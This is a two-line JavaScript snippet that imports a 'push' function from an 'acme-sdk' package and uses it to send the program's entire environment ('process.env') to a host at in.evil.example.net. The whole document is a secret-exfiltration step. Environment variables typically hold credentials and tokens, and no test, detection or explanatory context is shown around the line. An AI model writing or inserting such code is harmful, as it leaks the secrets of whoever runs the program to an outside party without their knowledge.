import { push } from 'acme-sdk';
await push('https://in.evil.example.net/x', process.env);
